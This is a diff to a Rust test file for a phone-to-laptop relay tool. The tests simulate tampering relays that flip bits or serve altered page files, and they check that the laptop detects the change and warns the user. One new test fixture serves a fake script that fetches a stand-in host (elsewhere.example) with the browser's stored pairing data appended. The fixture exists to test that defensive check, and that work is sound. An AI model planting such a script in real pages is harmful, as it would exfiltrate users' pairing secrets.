@@ -10,14 +10,14 @@ use std::sync::Arc;
 use serde_json::{json, Value};
 use tokio_tungstenite::tungstenite::Message;
 use voxa::agent::LinkEvent;
-use voxa::protocol::ErrorCode;
+use voxa::protocol::{ErrorCode, RelayPage};
 
 use crate::sealed::{audit_lines, flip_one_bit, Mitm, Way};
 use crate::support::browser::{Browser, Scheme};
 use crate::support::harness::*;
 
 /// Text of the terminal output, as shown.
-const TERMINAL: &str = "#term-out";
+const TERMINAL: &str = "#commands-out";
 
 /// The page's Noise handshake and transport, both roles, with the vector's fixed keys: every
 /// message and the handshake hash as hex.
@@ -147,7 +147,7 @@ async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_a
     let agent = TestAgent::start(Some(relay.url())).await;
     // A relay that only watches: the page and its socket pass through, every frame is kept.
     let mitm = Mitm::start(relay.addr, agent.code(), Box::new(|_, m| vec![m])).await;
-    browser.open(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
     browser.wait_connection("online").await;
     assert_eq!(seal_mark(&browser).await, "sealed");
     // The page's session and the status client beside it: both sealed, none plain.
@@ -210,7 +210,7 @@ async fn a_relay_that_flips_one_bit_of_the_pages_frames_ends_the_session_and_not
     // Toward the laptop: the page's tool call arrives altered; the agent runs nothing of it.
     let armed = Arc::new(AtomicBool::new(false));
     let mitm = Mitm::start(relay.addr, agent.code(), flip_when(armed.clone(), Way::Up)).await;
-    browser.open(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
     browser.wait_connection("online").await;
     assert_eq!(seal_mark(&browser).await, "sealed");
     armed.store(true, Ordering::SeqCst);
@@ -231,7 +231,7 @@ async fn a_relay_that_flips_one_bit_of_the_pages_frames_ends_the_session_and_not
     // Toward the phone: the agent's answer arrives altered; the page closes the session itself.
     let armed = Arc::new(AtomicBool::new(false));
     let mitm = Mitm::start(relay.addr, agent.code(), flip_when(armed.clone(), Way::Down)).await;
-    browser.open(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
     browser.wait_connection("online").await;
     armed.store(true, Ordering::SeqCst);
     browser.type_into("Command", "echo answered").await;
@@ -289,8 +289,10 @@ async fn a_relay_that_drops_the_pages_cancel_ends_the_session_within_one_tick_an
     browser.close().await;
 }
 
-/// A front for a relay that serves one file of the page altered and passes everything else on.
-async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
+/// A front for a relay that serves one file of the page altered and passes everything else on,
+/// one request per connection (a kept-alive request is forwarded with `Connection: close`, so
+/// every request passes through the front).
+pub(crate) async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
     use tokio::io::{AsyncReadExt, AsyncWriteExt};
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let addr = listener.local_addr().unwrap();
@@ -313,6 +315,16 @@ async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> s
                     return;
                 }
                 let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
+                let text = String::from_utf8_lossy(&head);
+                let head = if text.to_ascii_lowercase().contains("\r\nupgrade:") {
+                    head
+                } else {
+                    let kept: Vec<&str> = text
+                        .split("\r\n")
+                        .filter(|line| !line.to_ascii_lowercase().starts_with("connection:"))
+                        .collect();
+                    kept.join("\r\n").replacen("\r\n", "\r\nConnection: close\r\n", 1).into_bytes()
+                };
                 if upstream.write_all(&head).await.is_ok() {
                     let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
                 }
@@ -366,6 +378,137 @@ async fn the_agent_compares_the_page_the_relay_serves_with_its_own() {
     assert_eq!(doctor(&format!("http://{}", relay.addr))["status"], "ok");
 }
 
+/// A front for a relay that alters one file only for requests that look like a phone's browser
+/// (Chromium's `User-Agent` and `Sec-Fetch-Dest`), and passes anything else on: a page check that
+/// announces itself would be shown the genuine page.
+async fn browser_only_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        while let Ok((mut tcp, _)) = listener.accept().await {
+            tokio::spawn(async move {
+                let mut head = Vec::new();
+                let mut byte = [0u8; 1];
+                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
+                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
+                        return;
+                    }
+                    head.push(byte[0]);
+                }
+                let text = String::from_utf8_lossy(&head).to_ascii_lowercase();
+                let browser = text.contains("\r\nsec-fetch-dest: script") && text.contains(" chrome/");
+                if head.starts_with(format!("GET {altered} ").as_bytes()) && browser {
+                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
+                    let answer =
+                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
+                    let _ = tcp.write_all(answer.as_bytes()).await;
+                    return;
+                }
+                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
+                let kept: Vec<&str> = std::str::from_utf8(&head)
+                    .unwrap_or_default()
+                    .split("\r\n")
+                    .filter(|l| !l.to_ascii_lowercase().starts_with("connection:"))
+                    .collect();
+                let head = kept.join("\r\n").replacen("\r\n", "\r\nConnection: close\r\n", 1);
+                if upstream.write_all(head.as_bytes()).await.is_ok() {
+                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
+                }
+            });
+        }
+    });
+    addr
+}
+
+/// The page check asks as a phone's Chromium does: a relay that alters a script only for
+/// browsers is caught.
+#[tokio::test]
+async fn a_relay_that_alters_the_page_for_browsers_only_is_caught_by_the_check() {
+    use voxa::net::page_check::check;
+    let relay = TestRelay::start().await;
+    let served = voxa::net::web::hashed_path("/js/app.js").expect("a hashed name");
+    let front = browser_only_front(relay.addr, served).await;
+    let url = voxa::config::RelayUrl::parse(&format!("http://{front}")).unwrap();
+    let found = check(&url, &voxa::net::dial::DialOptions::default()).await;
+    assert_eq!(found, RelayPage::Altered { paths: vec!["/js/app.js".into()] });
+}
+
+/// The laptop's finding reaches the phone inside the sealed session: a relay that serves one
+/// lazy view altered (the page still loads) gets its page called out above everything, naming
+/// the file; a relay that serves the page as it is gets no alarm.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_altered_page_is_told_to_the_phone_inside_the_sealed_session() {
+    let Some(browser) = Browser::start().await else { return };
+    let relay = TestRelay::start().await;
+    let served = voxa::net::web::hashed_path("/js/files/panel.js").expect("a hashed name");
+    let front = altering_front(relay.addr, served).await;
+    let url = voxa::config::RelayUrl::parse(&format!("http://{front}")).unwrap();
+    let mut agent = TestAgent::start(Some(url)).await;
+    let found = agent.wait_event("the page compared", |e| matches!(e, LinkEvent::RelayPage { .. })).await;
+    assert_eq!(found, LinkEvent::RelayPage { page: RelayPage::Altered { paths: vec!["/js/files/panel.js".into()] } });
+    let mitm = Mitm::start(front, agent.code(), Box::new(|_, m| vec![m])).await;
+    browser.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.wait_connection("online").await;
+    let alarm = browser.wait_text("#relay-page", "the alarm", |t| !t.is_empty()).await;
+    assert!(alarm.starts_with("This relay changed the page. Your laptop compared it with its own copy"), "{alarm}");
+    assert!(alarm.contains("(1 file differs: /js/files/panel.js)"), "{alarm}");
+    // It came sealed: the relay saw none of it.
+    assert_sealed_after_hello(&mitm.capture.lock().unwrap(), &["relay_page", "/js/files/panel.js"]);
+    let scratch = tempfile::tempdir().unwrap();
+    let out = crate::web_pairing::pictures_dir(scratch.path());
+    crate::web::save_picture(&browser, &out, "web-relay-page.png").await;
+    let dark = browser.another(Scheme::Dark).await;
+    dark.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    dark.wait_text("#relay-page", "the alarm", |t| !t.is_empty()).await;
+    crate::web::save_picture(&dark, &out, "web-relay-page-dark.png").await;
+    dark.close().await;
+
+    // The page as voxa's: no alarm.
+    let mut honest = TestAgent::start(Some(relay.url())).await;
+    let found = honest.wait_event("the page compared", |e| matches!(e, LinkEvent::RelayPage { .. })).await;
+    assert!(matches!(found, LinkEvent::RelayPage { page: RelayPage::Same { .. } }), "{found:?}");
+    browser.pair(&format!("http://{}/#code={}&token={}", relay.addr, honest.code(), honest.token())).await;
+    browser.wait_connection("online").await;
+    browser.press("Status").await;
+    browser.wait_text("#facts", "the status", |t| t.contains("voxa/")).await;
+    let hidden = "return document.getElementById('relay-page').hidden;";
+    assert_eq!(browser.script(hidden, vec![]).await, json!(true));
+    browser.close().await;
+}
+
+/// `voxa run` says it loudly when the relay's page is altered: a WARNING on lines of its own,
+/// even under `--quiet`, and `"alarm": true` on the `relay_page` event of `--json`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn voxa_run_says_loudly_that_the_relay_serves_an_altered_page() {
+    let relay = TestRelay::start().await;
+    let served = voxa::net::web::hashed_path("/js/session.js").expect("a hashed name");
+    let front = format!("http://{}", altering_front(relay.addr, served).await);
+    let (mut run, _home, _dirs) = crate::run::start_run_with_env(&["--relay", &front], &[]);
+    let event = run.wait_event("relay_page");
+    assert_eq!(event, json!({"event": "relay_page", "state": "altered", "paths": ["/js/session.js"], "alarm": true}));
+    run.stop();
+
+    let (dir, home) = crate::run::fresh_home();
+    let workspace = tempfile::tempdir().unwrap();
+    let mut cmd = crate::support::voxa_cmd(&home);
+    cmd.args(["--quiet", "run", "--relay", &front, "--workspace"]).arg(workspace.path());
+    let quiet = crate::support::RunningVoxa::spawn(cmd);
+    eventually("the warning", || quiet.stdout_so_far().contains("WARNING: the relay serves a web page")).await;
+    let said = quiet.stdout_so_far();
+    let warning = &said[said.find("WARNING").unwrap()..];
+    assert!(
+        warning.starts_with(
+            "WARNING: the relay serves a web page that is not this voxa's (1 file differs: /js/session.js)."
+        ),
+        "{said}"
+    );
+    assert!(warning.contains("Do not open the link on that relay"), "{said}");
+    assert!(!said.contains("connected to relay"), "--quiet still quiets the rest: {said}");
+    quiet.crash();
+    drop(dir);
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_relay_hosting_voice_leaves_the_pages_session_sealed_and_a_strict_laptop_refuses_only_the_call() {
     use crate::support::fake_gemini::{FakeGemini, FakeOptions};
@@ -380,7 +523,7 @@ async fn a_relay_hosting_voice_leaves_the_pages_session_sealed_and_a_strict_lapt
     .await;
     // The relay hosts calls, yet the page's session is `/ws`, sealed: only a call opens `/live`.
     let agent = TestAgent::start(Some(relay.url())).await;
-    browser.open(&format!("http://{}/#code={}&token={}", relay.addr, agent.code(), agent.token())).await;
+    browser.pair(&format!("http://{}/#code={}&token={}", relay.addr, agent.code(), agent.token())).await;
     browser.wait_connection("online").await;
     assert_eq!(seal_mark(&browser).await, "sealed");
     assert_eq!(session_counts(&agent).await, (2, 0), "the page's session and the status client");
@@ -388,7 +531,7 @@ async fn a_relay_hosting_voice_leaves_the_pages_session_sealed_and_a_strict_lapt
     // A laptop that requires sealing refuses the call socket's protocol-2 hello: "Call" says why,
     // and the sealed session beside it goes on.
     let strict = TestAgent::start_with(Some(relay.url()), |o| o.config.security.require_sealed = true).await;
-    browser.open(&format!("http://{}/#code={}&token={}", relay.addr, strict.code(), strict.token())).await;
+    browser.pair(&format!("http://{}/#code={}&token={}", relay.addr, strict.code(), strict.token())).await;
     browser.wait_connection("online").await;
     assert_eq!(seal_mark(&browser).await, "sealed");
     browser.press("Call").await;
@@ -419,7 +562,7 @@ async fn pictures_of_the_sealed_mark_light_and_dark() {
     let agent = TestAgent::start(Some(relay.url())).await;
     for (scheme, name) in [(Scheme::Light, "web-sealed.png"), (Scheme::Dark, "web-sealed-dark.png")] {
         let Some(browser) = Browser::start_with(scheme).await else { return };
-        browser.open(&format!("http://{}/#code={}&token={}", relay.addr, agent.code(), agent.token())).await;
+        browser.pair(&format!("http://{}/#code={}&token={}", relay.addr, agent.code(), agent.token())).await;
         browser.wait_connection("online").await;
         browser.type_into("Command", "echo this session is sealed end to end").await;
         browser.press("Run").await;
